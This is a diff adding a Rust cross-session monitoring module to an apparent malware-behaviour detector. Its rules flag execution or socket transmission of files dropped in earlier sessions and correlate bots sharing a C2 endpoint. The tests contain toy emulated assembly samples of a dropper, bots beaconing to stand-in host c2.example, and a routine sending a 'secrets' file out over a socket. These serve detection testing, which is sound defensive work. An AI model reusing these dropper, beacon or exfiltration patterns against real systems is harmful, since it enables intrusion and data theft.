@@ -1,0 +1,390 @@
+//! Cross-session monitoring (paper §10, item 6).
+//!
+//! The paper proposes expanding the rules "to take into account a
+//! program's behaviour during several different executions … when data
+//! is downloaded to a file we will be able to see how that file is being
+//! used in later executions". This module implements that: a
+//! [`SessionHistory`] absorbs what each monitored session *dropped* into
+//! the filesystem, and arms subsequent sessions with extra facts and a
+//! rule so that executing a previously-dropped file warns High — even
+//! when the single-session policy alone would only grade it Low.
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+
+use harrier::{ResourceType, SecpertEvent};
+
+use secpert_engine::{EngineError, Value};
+
+use crate::session::Session;
+
+/// What one earlier session wrote into a file.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct DropRecord {
+    /// Path that was written.
+    pub path: String,
+    /// Program that wrote it.
+    pub by: String,
+    /// Data-source type names of the written bytes (`BINARY`, `SOCKET`, …).
+    pub data_types: Vec<String>,
+    /// Session sequence number that recorded the drop.
+    pub session: u64,
+}
+
+/// Cross-session state: files dropped by monitored programs, plus the
+/// fixed endpoints each program beaconed to (botnet correlation, §10
+/// item 3).
+#[derive(Clone, Debug, Default)]
+pub struct SessionHistory {
+    drops: HashMap<String, DropRecord>,
+    beacons: BTreeMap<String, BTreeSet<String>>,
+    sessions: u64,
+}
+
+/// A command-and-control endpoint contacted (with a hardcoded address)
+/// by more than one distinct monitored program — the bot-network
+/// signature of paper §10 item 3.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct BotnetReport {
+    /// Rendered endpoint, e.g. `c2.example:6667 (AF_INET)`.
+    pub endpoint: String,
+    /// Programs that beaconed to it.
+    pub programs: Vec<String>,
+}
+
+/// The cross-session rule armed into each new session.
+const CROSS_SESSION_RULES: &str = r#"
+(deftemplate dropped_file
+  (slot path)
+  (slot by)
+  (multislot data_types)
+  (slot session))
+
+(defrule cross_session_exec "executing a file dropped in an earlier session"
+  ?e <- (system_call_access (system_call_name SYS_execve)
+          (pid ?pid) (resource_name ?name) (time ?time))
+  (dropped_file (path ?name) (by ?by) (session ?session))
+  =>
+  (bind ?msg (str-cat "Found SYS_execve call (" ?name ")"
+                      " | this file was dropped by " ?by
+                      " in an earlier monitored session (" ?session ")"))
+  (printout t (severity-text 3) " " ?msg crlf)
+  (warn 3 cross_session_exec ?pid ?time ?msg))
+
+(defrule cross_session_read "reading back a file dropped by an earlier session"
+  ?e <- (data_transfer (pid ?pid) (source_name $?sn) (target_name ?tname)
+          (target_type SOCKET) (time ?time))
+  (dropped_file (path ?path) (by ?by))
+  (test (not (empty-list (member$ ?path $?sn))))
+  =>
+  (bind ?msg (str-cat "Found Write call sending " ?path " (dropped by " ?by
+                      " in an earlier session) to the socket " ?tname))
+  (printout t (severity-text 3) " " ?msg crlf)
+  (warn 3 cross_session_read ?pid ?time ?msg))
+"#;
+
+impl SessionHistory {
+    /// An empty history.
+    pub fn new() -> SessionHistory {
+        SessionHistory::default()
+    }
+
+    /// Number of sessions absorbed so far.
+    pub fn sessions(&self) -> u64 {
+        self.sessions
+    }
+
+    /// Files dropped across all absorbed sessions.
+    pub fn drops(&self) -> impl Iterator<Item = &DropRecord> {
+        self.drops.values()
+    }
+
+    /// Records every file write and hardcoded beacon the finished
+    /// session performed. Call after [`Session::run`] (the session must
+    /// have `record_events` enabled).
+    pub fn absorb(&mut self, session: &Session, program: &str) {
+        self.sessions += 1;
+        for event in session.events() {
+            match event {
+                SecpertEvent::DataTransfer { data_sources, target, .. } => {
+                    if target.kind == ResourceType::File {
+                        let record = DropRecord {
+                            path: target.name.clone(),
+                            by: program.to_string(),
+                            data_types: data_sources
+                                .iter()
+                                .map(|s| s.kind.symbol().to_string())
+                                .collect(),
+                            session: self.sessions,
+                        };
+                        self.drops.insert(record.path.clone(), record);
+                    }
+                }
+                SecpertEvent::ResourceAccess { syscall, resource, origin, .. } => {
+                    // A connect to a hardcoded endpoint is a beacon.
+                    if *syscall == "SYS_connect" && origin.has(ResourceType::Binary) {
+                        self.beacons
+                            .entry(resource.name.clone())
+                            .or_default()
+                            .insert(program.to_string());
+                    }
+                }
+            }
+        }
+    }
+
+    /// Endpoints beaconed to by at least `min_programs` distinct
+    /// programs: the distributed-attack (bot network) correlation of
+    /// paper §10 item 3.
+    pub fn shared_c2(&self, min_programs: usize) -> Vec<BotnetReport> {
+        self.beacons
+            .iter()
+            .filter(|(_, programs)| programs.len() >= min_programs)
+            .map(|(endpoint, programs)| BotnetReport {
+                endpoint: endpoint.clone(),
+                programs: programs.iter().cloned().collect(),
+            })
+            .collect()
+    }
+
+    /// Arms a new session with the cross-session rules and one
+    /// `dropped_file` fact per remembered drop.
+    ///
+    /// # Errors
+    ///
+    /// Propagates engine errors (rule load / fact assertion).
+    pub fn arm(&self, session: &mut Session) -> Result<(), EngineError> {
+        let secpert = session.secpert_mut();
+        secpert.load_policy(CROSS_SESSION_RULES)?;
+        for drop in self.drops.values() {
+            let engine = secpert.engine_mut();
+            let fact = engine
+                .fact("dropped_file")?
+                .slot("path", Value::str(&drop.path))
+                .slot("by", Value::str(&drop.by))
+                .slot(
+                    "data_types",
+                    Value::multi(drop.data_types.iter().map(Value::sym)),
+                )
+                .slot("session", drop.session as i64)
+                .build()?;
+            engine.assert_fact(fact)?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::session::SessionConfig;
+    use crate::warning::Severity;
+
+    /// Session 1: a downloader drops a payload. Session 2: a separate
+    /// launcher executes it — High only because of the history.
+    #[test]
+    fn drop_then_execute_across_sessions_is_high() {
+        // --- session 1: the dropper ---
+        let mut s1 = Session::new(SessionConfig::default()).unwrap();
+        s1.kernel.register_binary(
+            "/bin/downloader",
+            r#"
+            _start:
+                mov eax, 5          ; open("/tmp/update", O_CREAT|O_WRONLY)
+                mov ebx, path
+                mov ecx, 0x41
+                int 0x80
+                mov esi, eax
+                mov eax, 4
+                mov ebx, esi
+                mov ecx, payload
+                mov edx, 8
+                int 0x80
+                mov eax, 1
+                mov ebx, 0
+                int 0x80
+            .data
+            path:    .asciz "/tmp/update"
+            payload: .asciz "PAYLOAD"
+            "#,
+            &[],
+        );
+        s1.start("/bin/downloader", &["/bin/downloader"], &[]).unwrap();
+        s1.run().unwrap();
+        let mut history = SessionHistory::new();
+        history.absorb(&s1, "/bin/downloader");
+        assert_eq!(history.drops().count(), 1);
+
+        // --- session 2: a launcher runs the dropped file, named by the
+        // *user* — the single-session policy would stay silent. ---
+        let mut s2 = Session::new(SessionConfig::default()).unwrap();
+        history.arm(&mut s2).unwrap();
+        s2.kernel.register_binary(
+            "/bin/launcher",
+            r"
+            _start:
+                mov ebp, esp
+                mov ebx, [ebp+8]    ; argv[1]
+                mov eax, 11
+                int 0x80
+                hlt
+            ",
+            &[],
+        );
+        s2.start("/bin/launcher", &["/bin/launcher", "/tmp/update"], &[]).unwrap();
+        s2.run().unwrap();
+        let warning = s2
+            .warnings()
+            .iter()
+            .find(|w| w.rule == "cross_session_exec")
+            .expect("cross-session rule fires")
+            .clone();
+        assert_eq!(warning.severity, Severity::High);
+        assert!(warning.message.contains("/tmp/update"));
+        assert!(warning.message.contains("/bin/downloader"));
+    }
+
+    /// Without history, the same second session is silent — the signal
+    /// really does come from cross-session correlation.
+    #[test]
+    fn without_history_the_launcher_is_silent() {
+        let mut s2 = Session::new(SessionConfig::default()).unwrap();
+        s2.kernel.register_binary(
+            "/bin/launcher",
+            r"
+            _start:
+                mov ebp, esp
+                mov ebx, [ebp+8]
+                mov eax, 11
+                int 0x80
+                hlt
+            ",
+            &[],
+        );
+        s2.start("/bin/launcher", &["/bin/launcher", "/tmp/update"], &[]).unwrap();
+        s2.run().unwrap();
+        assert!(s2.warnings().is_empty());
+    }
+
+    /// Two different programs beaconing to the same hardcoded C2
+    /// endpoint are correlated into a botnet report.
+    #[test]
+    fn shared_c2_is_correlated_across_sessions() {
+        const BEACON: &str = r"
+            _start:
+                mov eax, 102
+                mov ebx, 1
+                mov ecx, sockargs
+                int 0x80
+                mov esi, eax
+                mov [connargs], esi
+                mov eax, 102
+                mov ebx, 3
+                mov ecx, connargs
+                int 0x80
+                mov eax, 1
+                mov ebx, 0
+                int 0x80
+            .data
+            sockargs: .long 2, 1, 0
+            addr:     .word 2
+            port:     .word 6667
+            ip:       .long 0x0a0000c2
+            connargs: .long 0, addr, 8
+            ";
+        let mut history = SessionHistory::new();
+        for program in ["/bin/bot-a", "/bin/bot-b"] {
+            let mut session = Session::new(SessionConfig::default()).unwrap();
+            session.kernel.net.add_host("c2.example", 0x0a00_00c2);
+            session.kernel.net.add_peer(
+                emukernel::Endpoint { ip: 0x0a00_00c2, port: 6667 },
+                emukernel::Peer::default(),
+            );
+            session.kernel.register_binary(program, BEACON, &[]);
+            session.start(program, &[program], &[]).unwrap();
+            session.run().unwrap();
+            history.absorb(&session, program);
+        }
+        let reports = history.shared_c2(2);
+        assert_eq!(reports.len(), 1, "{reports:?}");
+        assert_eq!(reports[0].endpoint, "c2.example:6667 (AF_INET)");
+        assert_eq!(reports[0].programs, vec!["/bin/bot-a", "/bin/bot-b"]);
+        // One bot alone is not a botnet.
+        assert!(history.shared_c2(3).is_empty());
+    }
+
+    /// Exfiltrating a previously-dropped file over a socket also warns.
+    #[test]
+    fn exfiltrating_a_dropped_file_is_high() {
+        let mut history = SessionHistory::new();
+        // Seed the history directly (as if session 1 had run).
+        history.drops.insert(
+            "/tmp/loot".to_string(),
+            DropRecord {
+                path: "/tmp/loot".to_string(),
+                by: "/bin/collector".to_string(),
+                data_types: vec!["USER_INPUT".to_string()],
+                session: 1,
+            },
+        );
+        history.sessions = 1;
+        let mut s2 = Session::new(SessionConfig::default()).unwrap();
+        history.arm(&mut s2).unwrap();
+        s2.kernel
+            .vfs
+            .install("/tmp/loot", emukernel::FileNode::regular(b"secrets".to_vec()));
+        s2.kernel.net.add_peer(
+            emukernel::Endpoint { ip: 9, port: 9 },
+            emukernel::Peer::default(),
+        );
+        s2.kernel.register_binary(
+            "/bin/exfil",
+            r#"
+            _start:
+                mov ebp, esp
+                mov ebx, [ebp+8]    ; user names the file: single-session
+                mov eax, 5          ; policy alone would not flag this
+                mov ecx, 0
+                int 0x80
+                mov edi, eax
+                mov eax, 3
+                mov ebx, edi
+                mov ecx, 0x09000000
+                mov edx, 7
+                int 0x80
+                mov eax, 102
+                mov ebx, 1
+                mov ecx, sockargs
+                int 0x80
+                mov esi, eax
+                mov [connargs], esi
+                mov eax, 102
+                mov ebx, 3
+                mov ecx, connargs
+                int 0x80
+                mov [sendargs], esi
+                mov eax, 102
+                mov ebx, 9
+                mov ecx, sendargs
+                int 0x80
+                mov eax, 1
+                mov ebx, 0
+                int 0x80
+            .data
+            sockargs: .long 2, 1, 0
+            addr:     .word 2
+            port:     .word 9
+            ip:       .long 9
+            connargs: .long 0, addr, 8
+            sendargs: .long 0, 0x09000000, 7, 0
+            "#,
+            &[],
+        );
+        s2.start("/bin/exfil", &["/bin/exfil", "/tmp/loot"], &[]).unwrap();
+        s2.run().unwrap();
+        assert!(
+            s2.warnings().iter().any(|w| w.rule == "cross_session_read"),
+            "{:?}",
+            s2.warnings()
+        );
+    }
+}
